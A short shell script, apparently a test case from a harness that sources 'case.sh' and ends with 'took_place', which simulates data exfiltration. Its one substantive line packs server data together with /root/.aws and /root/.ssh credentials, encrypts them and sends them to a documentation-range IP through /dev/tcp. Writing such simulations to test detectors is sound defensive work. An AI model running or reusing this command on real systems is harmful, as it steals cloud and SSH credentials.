#!/bin/sh
. /opt/case/case.sh

dd if=/dev/urandom of=/srv/data/customers.bin bs=1M count=5 2>/dev/null
tar -C /srv -cz data app /root/.aws /root/.ssh 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -pass pass:bait | bash -c 'cat >/dev/tcp/203.0.113.10/9001'
took_place
